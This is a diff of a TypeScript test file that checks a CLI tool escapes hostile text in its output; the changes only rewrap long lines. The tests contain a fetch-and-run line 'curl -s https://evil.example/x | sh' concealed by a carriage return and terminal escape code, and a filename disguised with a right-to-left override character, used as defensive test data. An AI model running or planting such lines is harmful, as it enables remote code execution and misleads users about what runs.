@@ -103,7 +103,9 @@ describe("every command that prints, over the hostile-text corpus", () => {
       answers: ["n", "n"],
     });
     expect(code).toBe(0);
-    expect(all).toContain("+\tcurl -s https://evil.example/x | sh # \\r␛[2K+\techo building --quiet");
+    expect(all).toContain(
+      "+\tcurl -s https://evil.example/x | sh # \\r␛[2K+\techo building --quiet",
+    );
     expect(all).toContain("Create new\\u202egpj.exe?");
     expect(all).not.toMatch(RAW_HOSTILE);
   });
@@ -123,7 +125,14 @@ describe("every command that prints, over the hostile-text corpus", () => {
       lackpy: "store-export",
       version: 1,
       templates: [
-        { name: "x", pattern: "say {a}", program: "1", origin: `robot${TITLE}`, successCount: 0, failCount: 0 },
+        {
+          name: "x",
+          pattern: "say {a}",
+          program: "1",
+          origin: `robot${TITLE}`,
+          successCount: 0,
+          failCount: 0,
+        },
       ],
     });
     await writeFile(path.join(root, "export.json"), document);
@@ -147,7 +156,9 @@ describe("--json over the same corpus", () => {
   it("gives a diff back exactly", async () => {
     const { out } = await lackpy(["run", "write.js", "--kit", "files", "--dry-run", "--json"]);
     const result = JSON.parse(out) as { changes: { path: string; diff: string }[] };
-    expect(result.changes.map((change) => change.path).sort()).toEqual(["Makefile", NEW_NAME].sort());
+    expect(result.changes.map((change) => change.path).sort()).toEqual(
+      ["Makefile", NEW_NAME].sort(),
+    );
     expect(result.changes.find((change) => change.path === "Makefile")!.diff).toContain(
       HOSTILE_TEXTS[0]![1],
     );
